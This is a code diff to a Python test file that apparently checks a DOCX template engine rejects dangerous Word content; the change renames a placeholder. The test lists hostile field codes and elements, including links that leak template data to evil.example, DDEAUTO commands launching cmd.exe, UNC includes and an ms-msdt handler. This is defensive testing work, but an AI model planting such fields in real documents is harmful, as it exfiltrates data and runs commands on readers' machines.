@@ -19,7 +19,7 @@ def complex_field(*pieces: str) -> str:
 
 
 def with_body(xml: str, docx: bytes | None = None) -> bytes:
-    docx = docx or template("{{ finding }}")
+    docx = docx or template("{{ headline }}")
     body = part(docx, BODY).decode().replace("<w:body>", f"<w:body>{xml}", 1)
     return repacked(docx, {BODY: body.encode()})
 
@@ -29,7 +29,7 @@ def with_paragraph(runs: str) -> bytes:
 
 
 def with_part(name: str, kind: str, content: bytes, relation: str = "") -> bytes:
-    made = template("{{ finding }}")
+    made = template("{{ headline }}")
     types = part(made, TYPES).replace(
         b"</Types>", f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'.encode()
     )
@@ -41,14 +41,14 @@ def with_part(name: str, kind: str, content: bytes, relation: str = "") -> bytes
 
 
 def with_setting(xml: str) -> bytes:
-    made = template("{{ finding }}")
+    made = template("{{ headline }}")
     return repacked(
         made, {SETTINGS: part(made, SETTINGS).replace(b"</w:settings>", f"{xml}</w:settings>".encode())}
     )
 
 
 FIELDS = [
-    "INCLUDEPICTURE &quot;http://evil.example/x.png?{{ finding }}&quot;",
+    "INCLUDEPICTURE &quot;http://evil.example/x.png?{{ headline }}&quot;",
     "INCLUDEPICTURE &quot;http://evil.example/x.png&quot; \\d",
     "INCLUDETEXT &quot;\\\\\\\\host\\\\share\\\\x.docx&quot;",
     "DDEAUTO cmd.exe &quot;/k calc&quot;",
@@ -59,7 +59,7 @@ FIELDS = [
     "HYPERLINK &quot;file:///etc/passwd&quot;",
     "HYPERLINK \\n ms-msdt:/id",
     "HYPERLINK &quot;\\\\\\\\host\\\\share&quot;",
-    "HYPERLINK &quot;https://evil.example/?{{ finding }}&quot;",
+    "HYPERLINK &quot;https://evil.example/?{{ headline }}&quot;",
     "PAGE {{ decision_reason }}",
     "PAGE DDEAUTO cmd calc",
     "REF x DDEAUTO cmd calc",
@@ -144,7 +144,7 @@ ELEMENTS = {
     "OLEObject": with_paragraph('<w:r><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link"/></w:r>'),
     "imagedata": with_paragraph('<w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/x"/></w:pict></w:r>'),
     "shape": with_paragraph('<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="file://host/x"/></w:pict></w:r>'),
-    "docPr": with_paragraph('<w:r><wp:docPr xmlns:wp="x" descr="{{ finding }}"/></w:r>'),
+    "docPr": with_paragraph('<w:r><wp:docPr xmlns:wp="x" descr="{{ headline }}"/></w:r>'),
     "attachedTemplate": with_setting('<w:attachedTemplate xmlns:r="x" r:id="rId1"/>'),
     "mailMerge": with_setting('<w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge>'),
     "saveThroughXslt": with_setting("<w:saveThroughXslt/>"),
